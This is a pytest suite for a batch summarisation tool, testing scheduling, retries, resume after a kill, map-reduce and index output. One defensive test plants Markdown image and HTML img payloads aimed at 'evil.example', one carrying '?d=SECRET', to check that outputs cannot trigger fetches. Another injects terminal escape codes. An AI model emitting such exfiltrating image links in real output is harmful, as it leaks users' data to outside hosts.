"""Batch summarisation: scheduling and failures with the fake server, resume and map-reduce
against the real llama.cpp server."""

from __future__ import annotations

import json
import os
import re
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from builders import synthetic_document_text
from fakeserver import FakeServer

from sparkdocs.batch import (
    INDEX_NAME,
    BatchOptions,
    BatchSummarizer,
    OutcomeStatus,
    collect_items,
    plan_outputs,
)
from sparkdocs.client import ModelClient
from sparkdocs.config import OutputFormat, Settings
from sparkdocs.files import atomic_write
from sparkdocs.ingest import ingest_bytes
from sparkdocs.prompts import split_into_parts
from sparkdocs.tokens import count_document
from sparkdocs.workspace import LoadRequest, Workspace


def _docs(folder: Path, count: int, tokens: int = 200) -> list[Path]:
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for i in range(count):
        path = folder / f"doc{i}.md"
        path.write_text(synthetic_document_text(tokens, seed=100 + i))
        paths.append(path)
    return paths


def summaries(out: Path) -> list[Path]:
    """The summary files of an output folder (not its index)."""
    return [p for p in out.glob("*.md") if p.name != INDEX_NAME]


def names(sources: list[str]) -> list[str]:
    planned = plan_outputs(sources)
    return [planned[s].file_name for s in sources]


def test_output_names_are_relative_to_the_common_folder_and_readable(tmp_path: Path):
    base = tmp_path / "work" / "deals"
    assert names([str(base / "contracts/a b.pdf"), str(base / "notes/c.md")]) == [
        "contracts__a b.pdf.md", "notes__c.md.md"]
    assert names([str(base / "a.pdf")]) == ["a.pdf.md"]  # not the whole absolute path
    assert names(["./x/../y.txt"]) == ["y.txt.md"]
    assert names([".env"]) == ["_env.md"]  # never a hidden file
    assert len(names(["d/" * 200 + "f" * 300 + ".txt"])[0].encode()) <= 255


@pytest.mark.parametrize("pair", [("x/y.txt", "x__y.txt"), ("a:b.txt", "a_b.txt"),
                                  ("A.txt", "a.txt"), ("q/index", "q/w.txt")])
def test_inputs_that_would_share_an_output_get_distinct_names_in_any_order(pair):
    first = names(list(pair))
    assert len({n.casefold() for n in first}) == 2 and INDEX_NAME not in first
    assert names(list(reversed(pair))) == list(reversed(first))  # deterministic
    assert all(plan.stem.split("-")[0] for plan in plan_outputs(list(pair)).values())


def test_the_same_file_twice_is_one_input(tmp_path: Path, workspace):
    doc = tmp_path / "a.txt"
    doc.write_text("Alpha.")
    items = collect_items(workspace, [str(doc), str(tmp_path / "." / "a.txt")])
    assert len(items) == 1


def test_atomic_write_leaves_no_temporary_file(tmp_path: Path):
    atomic_write(tmp_path / "a.md", "hello")
    assert [p.name for p in tmp_path.iterdir()] == ["a.md"]


def test_split_into_parts_keeps_order_and_ranges():
    document = count_document(ingest_bytes("big.md", synthetic_document_text(3000).encode()))
    parts = split_into_parts(document, 1000, note=lambda n, total, label: f"Part {n} of {total}")
    flat = [i for part in parts for i in part.sections]
    assert flat == list(range(len(document.sections))) and all(p.tokens <= 1000 for p in parts)
    assert parts[0].label.startswith("section ")


@pytest.mark.integration
def test_keeps_n_requests_in_flight(tmp_path: Path):
    with FakeServer() as server:
        server.behaviour.latency_s = 0.3
        settings = Settings(base_url=server.base_url, cache_dir=tmp_path / "c", max_retries=0)
        workspace = Workspace(settings)
        items = collect_items(workspace, [str(p) for p in _docs(tmp_path / "in", 12)])
        options = BatchOptions(out_dir=tmp_path / "out", concurrency=4, max_tokens=20)
        outcomes = BatchSummarizer(workspace, ModelClient(settings), options).run(items)
    assert [o.status for o in outcomes] == ["done"] * 12
    assert server.behaviour.max_in_flight == 4
    assert len(summaries(tmp_path / "out")) == 12


@pytest.mark.integration
def test_failing_documents_are_retried_reported_and_others_finish(tmp_path: Path):
    docs = _docs(tmp_path / "in", 5)
    bad_marker = "MARKER-OF-THE-BAD-DOCUMENT"
    docs[2].write_text(docs[2].read_text() + "\n\n" + bad_marker)
    with FakeServer() as server:
        server.behaviour.fail_when_prompt_contains = bad_marker
        server.behaviour.status = 503
        env = {**os.environ, "SPARKDOCS_BASE_URL": server.base_url, "SPARKDOCS_MAX_RETRIES": "1",
               "SPARKDOCS_CACHE_DIR": str(tmp_path / "c")}
        run = subprocess.run([sys.executable, "-m", "sparkdocs", "summarize", str(tmp_path / "in"),
                              "--out", str(tmp_path / "out"), "--concurrency", "2"],
                             capture_output=True, text=True, env=env, timeout=120)
        requests_for_bad = sum(1 for r in server.behaviour.requests if bad_marker in json.dumps(r))
    assert run.returncode == 1
    assert "failed" in run.stderr and "HTTP 503" in run.stderr.replace("\n", " ").replace("│", "")
    assert len(summaries(tmp_path / "out")) == 4
    assert requests_for_bad == 4  # 2 attempts x (1 + 1 client retry)


@pytest.mark.e2e
def test_five_documents_with_concurrency_two_on_the_real_server(real_server, tmp_path: Path):
    _docs(tmp_path / "in", 5)
    settings = real_server.settings(tmp_path, context_length=6000)
    workspace = Workspace(settings)
    items = collect_items(workspace, [str(tmp_path / "in")])
    options = BatchOptions(out_dir=tmp_path / "out", concurrency=2, max_tokens=24,
                           output_format=OutputFormat.JSONL)
    outcomes = BatchSummarizer(workspace, ModelClient(settings), options).run(items)
    assert [o.status for o in outcomes] == ["done"] * 5
    records = [json.loads(line) for line in (tmp_path / "out" / "summaries.jsonl").read_text().splitlines()]
    assert len(records) == 5 and all(r["summary"] and r["content_hash"] and r["source"] for r in records)
    assert set(records[0]) >= {"finish_reason", "ttft_s", "decode_tokens_per_s", "cached_tokens"}
    again = BatchSummarizer(workspace, ModelClient(settings), options).run(items)
    assert [o.status for o in again] == ["skipped"] * 5


@pytest.mark.e2e
def test_killed_run_resumes_only_what_is_left(real_server, tmp_path: Path):
    _docs(tmp_path / "in", 6)
    out = tmp_path / "out"
    env = {**os.environ, "SPARKDOCS_BASE_URL": real_server.base_url, "SPARKDOCS_CACHE_DIR": str(tmp_path / "c"),
           "SPARKDOCS_CONTEXT_LENGTH": "6000"}
    command = [sys.executable, "-m", "sparkdocs", "summarize", str(tmp_path / "in"), "--out", str(out),
               "--concurrency", "1", "--max-tokens", "48"]
    process = subprocess.Popen(command, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + 240
    while time.monotonic() < deadline and len(summaries(out)) < 2:
        time.sleep(0.2)
    process.send_signal(signal.SIGKILL)
    process.wait()
    finished = {p.name: (p.stat().st_mtime_ns, p.read_text()) for p in summaries(out)}
    assert 2 <= len(finished) < 6
    assert not list(out.glob(".*.tmp"))  # no half-written file survives a kill -9
    rerun = subprocess.run(command, env=env, capture_output=True, text=True, timeout=600)
    assert rerun.returncode == 0, rerun.stderr
    assert rerun.stderr.count("skipped") >= len(finished)
    after = {p.name: (p.stat().st_mtime_ns, p.read_text()) for p in summaries(out)}
    assert len(after) == 6
    assert all(after[name] == value for name, value in finished.items())  # untouched


@pytest.mark.e2e
def test_document_over_budget_goes_through_map_reduce(real_server, tmp_path: Path):
    doc = tmp_path / "long.md"
    doc.write_text(synthetic_document_text(3500, seed=9))
    settings = real_server.settings(tmp_path, context_length=2048)
    workspace = Workspace(settings)
    options = BatchOptions(out_dir=tmp_path / "out", concurrency=1, max_tokens=48)
    [outcome] = BatchSummarizer(workspace, ModelClient(settings), options).run(
        collect_items(workspace, [str(doc)]))
    assert outcome.status == "done", outcome.error
    assert len(outcome.parts) >= 2
    text = Path(outcome.output).read_text()
    assert f"map-reduce over {len(outcome.parts)} parts" in text and "part 1: section" in text


@pytest.mark.integration
def test_ctrl_c_cancels_in_flight_requests_and_keeps_finished_outputs(tmp_path: Path):
    _docs(tmp_path / "in", 6)
    out = tmp_path / "out"
    with FakeServer() as server:
        server.behaviour.latency_s = 0.2
        server.behaviour.answer = " ".join(["word"] * 200)
        server.behaviour.token_delay_s = 0.02  # each summary streams for ~4 s
        env = {**os.environ, "SPARKDOCS_BASE_URL": server.base_url, "SPARKDOCS_CACHE_DIR": str(tmp_path / "c")}
        process = subprocess.Popen([sys.executable, "-m", "sparkdocs", "summarize", str(tmp_path / "in"),
                                    "--out", str(out), "--concurrency", "2", "--max-tokens", "200"],
                                   env=env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline and len(summaries(out)) < 2:
            time.sleep(0.05)
        time.sleep(0.5)  # the next two are mid-stream now
        process.send_signal(signal.SIGINT)
        started = time.monotonic()
        _, stderr = process.communicate(timeout=30)
        stopped_in = time.monotonic() - started
    assert process.returncode == 130, stderr
    assert stopped_in < 10  # in-flight streams were closed, not waited out
    assert "interrupted" in stderr and "Traceback" not in stderr
    assert "stopped by the user" in stderr and "broke off" not in stderr
    finished = summaries(out)
    assert 2 <= len(finished) < 6 and not list(out.glob(".*.tmp"))
    assert all(p.read_text().rstrip().endswith("word") for p in finished)  # complete, not cut


@pytest.mark.integration
@pytest.mark.parametrize("layout", [("x/y.txt", "x__y.txt"), ("a b.txt", "a_b.txt")])
def test_colliding_inputs_write_two_summaries_and_resume_keeps_both(tmp_path: Path, layout):
    root = tmp_path / "in"
    paths = []
    for number, relative in enumerate(layout):
        path = root / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(synthetic_document_text(150, seed=300 + number) + f"\n\nDOC-{number}")
        paths.append(str(path))
    out = tmp_path / "out"
    with FakeServer() as server:
        settings = Settings(base_url=server.base_url, cache_dir=tmp_path / "c", max_retries=0)
        workspace = Workspace(settings)
        options = BatchOptions(out_dir=out, concurrency=2, max_tokens=20)

        def run_once() -> list:
            items = collect_items(workspace, paths)
            return BatchSummarizer(workspace, ModelClient(settings), options).run(items)

        first = run_once()
        assert [o.status for o in first] == [OutcomeStatus.DONE] * 2
        assert len({o.output for o in first}) == 2 and len(summaries(out)) == 2
        for number, outcome in enumerate(first):
            assert f"source: {paths[number]}" in Path(outcome.output).read_text()
        again = run_once()
        assert [o.status for o in again] == [OutcomeStatus.SKIPPED] * 2  # no flip between them
        assert [o.output for o in again] == [o.output for o in first]
        assert len(server.behaviour.requests) == 2


@pytest.mark.integration
def test_index_lists_every_document_status_and_summary(tmp_path: Path):
    docs = _docs(tmp_path / "in", 3)
    bad_marker = "MARKER-OF-THE-BAD-DOCUMENT"
    docs[1].write_text(docs[1].read_text() + "\n\n" + bad_marker)
    (tmp_path / "in" / "sub").mkdir()
    (tmp_path / "in" / "sub" / "x|y.md").write_text("Pipe in the name.")
    out = tmp_path / "out"
    with FakeServer() as server:
        server.behaviour.fail_when_prompt_contains = bad_marker
        server.behaviour.status = 400
        settings = Settings(base_url=server.base_url, cache_dir=tmp_path / "c", max_retries=0)
        workspace = Workspace(settings)
        items = collect_items(workspace, [str(tmp_path / "in")])
        summarizer = BatchSummarizer(workspace, ModelClient(settings),
                                     BatchOptions(out_dir=out, concurrency=2, max_tokens=20))
        outcomes = summarizer.run(items)
    assert summarizer.index_path == out / INDEX_NAME
    index = (out / INDEX_NAME).read_text()
    assert "4 documents: 3 done" in index and "1 failed" in index
    assert "| doc0.md | done | [doc0.md.md](<doc0.md.md>) |" in index
    assert "| doc1.md | failed |" in index
    assert "| sub/x\\|y.md | done | [sub__x_y.md.md](<sub__x_y.md.md>) |" in index
    assert sum(o.status is OutcomeStatus.DONE for o in outcomes) == 3


@pytest.mark.integration
def test_jsonl_index_points_at_the_records(tmp_path: Path):
    _docs(tmp_path / "in", 2)
    out = tmp_path / "out"
    with FakeServer() as server:
        settings = Settings(base_url=server.base_url, cache_dir=tmp_path / "c", max_retries=0)
        workspace = Workspace(settings)
        options = BatchOptions(out_dir=out, concurrency=2, max_tokens=20,
                               output_format=OutputFormat.JSONL)
        outcomes = BatchSummarizer(workspace, ModelClient(settings), options).run(
            collect_items(workspace, [str(tmp_path / "in")]))
    records = [json.loads(line) for line in (out / "summaries.jsonl").read_text().splitlines()]
    index = [json.loads(line) for line in (out / "index.jsonl").read_text().splitlines()]
    assert {r["key"] for r in records} == {r["key"] for r in index} == {o.key for o in outcomes}
    assert [r["document"] for r in index] == ["doc0.md", "doc1.md"]
    assert all(f"record `{o.key}`" in (out / INDEX_NAME).read_text() for o in outcomes)


@pytest.mark.integration
def test_a_server_that_ignores_max_tokens_fails_the_document_once_not_forever(tmp_path: Path):
    from fakeserver import StreamFault

    _docs(tmp_path / "in", 1)
    with FakeServer() as server:
        server.behaviour.stream_fault = StreamFault.ENDLESS
        settings = Settings(base_url=server.base_url, cache_dir=tmp_path / "c", max_retries=0)
        workspace = Workspace(settings)
        [outcome] = BatchSummarizer(workspace, ModelClient(settings), BatchOptions(
            out_dir=tmp_path / "out", max_tokens=8)).run(
            collect_items(workspace, [str(tmp_path / "in")]))
        requests = len(server.behaviour.requests)
    assert outcome.status is OutcomeStatus.FAILED and requests == 1  # not retried
    assert "more than 32 tokens for max_tokens=8; stopped" in outcome.error
    assert not summaries(tmp_path / "out")


@pytest.mark.integration
def test_control_sequences_in_an_answer_do_not_reach_the_summary_file(tmp_path: Path):
    _docs(tmp_path / "in", 1)
    with FakeServer() as server:
        server.behaviour.chunks = ["Plain \x1b[2J", "text\x1b]0;t\x07."]
        settings = Settings(base_url=server.base_url, cache_dir=tmp_path / "c", max_retries=0)
        workspace = Workspace(settings)
        [outcome] = BatchSummarizer(workspace, ModelClient(settings), BatchOptions(
            out_dir=tmp_path / "out", max_tokens=8)).run(
            collect_items(workspace, [str(tmp_path / "in")]))
    text = Path(outcome.output).read_text()
    assert text.rstrip().endswith("Plain text.") and "\x1b" not in text and "\x07" not in text


def test_summary_files_and_the_index_cannot_make_a_markdown_viewer_fetch(tmp_path: Path):
    """The summary is a model's text about an untrusted document and the names are file names:
    neither may put a live image or raw HTML into the files a Markdown preview opens."""
    from sparkdocs.safe_text import fetching_constructs

    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "<img src=https:evil.example>.txt").write_text("One document.")
    (folder / "![x](https:evil.example?d=1) --!><img src=x>.txt").write_text("Another one.")
    with FakeServer() as server:
        server.behaviour.answer = ('Done ![p](https://evil.example/p.png?d=SECRET) and '
                                   '<img src="https://evil.example/q.png">')
        settings = Settings(base_url=server.base_url, cache_dir=tmp_path / "c", max_retries=0)
        workspace = Workspace(settings)
        outcomes = BatchSummarizer(workspace, ModelClient(settings), BatchOptions(
            out_dir=tmp_path / "out", max_tokens=40)).run(collect_items(workspace, [str(folder)]))
    assert all(o.status is OutcomeStatus.DONE for o in outcomes)
    for path in (tmp_path / "out").glob("*.md"):
        text = path.read_text()
        header_end = text.index("-->") + 3 if text.startswith("<!--") else 0
        assert "--!>" not in text[:header_end], path.name  # the comment is closed only once
        assert fetching_constructs(text[header_end:]) == [], path.name


def test_summaries_carry_the_users_cache_salt_in_team_mode(tmp_path: Path):
    """Per-user prefix caching covers summaries too: the same salt as the user's questions."""
    from sparkdocs.config import AuthMode
    from sparkdocs.qa import QuestionAnswering

    _docs(tmp_path / "in", 1)
    with FakeServer() as server:
        settings = Settings(base_url=server.base_url, cache_dir=tmp_path / "c", max_retries=0,
                            auth=AuthMode.PASSWORD, user="alice")
        workspace = Workspace(settings)
        client = ModelClient(settings)
        BatchSummarizer(workspace, client, BatchOptions(out_dir=tmp_path / "out", max_tokens=8)
                        ).run(collect_items(workspace, [str(tmp_path / "in")]))
        salts = [r.get("cache_salt") for r in server.behaviour.requests if "messages" in r]
    expected = QuestionAnswering(workspace, client).cache_salt("alice")
    assert expected and salts and set(salts) == {expected}


def _index_rows(index: str) -> dict[str, dict[str, str]]:
    """index.md's table as read from disk: document → {column: cell}."""
    lines = [line for line in index.splitlines() if line.startswith("| ")]
    header = [cell.strip() for cell in lines[0].strip("|").split(" | ")]
    rows = {}
    for line in lines[2:]:
        cells = [cell.strip() for cell in line.strip().strip("|").split(" | ")]
        rows[cells[0]] = dict(zip(header, cells, strict=True))
    return rows


@pytest.mark.integration
def test_index_carries_tokens_and_parts_and_marks_a_summary_cut_at_the_limit(tmp_path: Path):
    """Issue #22: index.md had empty token and part columns (a resumed run: all of them), and a
    summary that stopped at max_tokens (finish_reason "length") looked finished."""
    docs = _docs(tmp_path / "in", 2, tokens=300)
    cut_marker = "MARKER-OF-THE-CUT-SUMMARY"
    docs[1].write_text(docs[1].read_text() + "\n\n" + cut_marker)
    big = tmp_path / "in" / "big.md"
    big.write_text(synthetic_document_text(3000, seed=77))
    out = tmp_path / "out"
    with FakeServer() as server:
        server.behaviour.max_model_len = 2048  # big.md goes through map-reduce
        server.behaviour.reply = lambda messages: (
            " ".join(["cutword"] * 50) if cut_marker in json.dumps(messages) else "A short summary.")
        settings = Settings(base_url=server.base_url, cache_dir=tmp_path / "c", max_retries=0)
        workspace = Workspace(settings)
        tokens = {p.name: workspace.load(LoadRequest((str(p),))).section_tokens
                  for p in [*docs, big]}
        options = BatchOptions(out_dir=out, concurrency=2, max_tokens=20)
        runs = []
        for _ in range(2):  # the second run resumes: every row is "skipped"
            outcomes = BatchSummarizer(workspace, ModelClient(settings), options).run(
                collect_items(workspace, [str(tmp_path / "in")]))
            runs.append((outcomes, _index_rows((out / INDEX_NAME).read_text())))
    first, second = runs
    assert [o.status for o in first[0]] == [OutcomeStatus.DONE] * 3
    assert [o.status for o in second[0]] == [OutcomeStatus.SKIPPED] * 3
    big_parts = len(first[0][0].parts)
    assert first[0][0].source.endswith("big.md") and big_parts >= 2
    for _, rows in runs:
        assert set(rows) == {"big.md", "doc0.md", "doc1.md"}
        for name, row in rows.items():
            assert row["document tokens"] == f"{tokens[name]:,}", row
            assert row["parts"] == str(big_parts if name == "big.md" else 1), row
            assert bool(re.search(r"\bcut\b", " ".join(row.values()))) == (name == "doc1.md"), row
    cut_file = (out / "doc1.md.md").read_text()
    assert re.search(r"\bcut\b", cut_file.split("# Summary of")[1], re.IGNORECASE), cut_file
    assert "max_tokens" in cut_file or "--max-tokens" in cut_file
    assert not re.search(r"\bcut\b", (out / "doc0.md.md").read_text(), re.IGNORECASE)
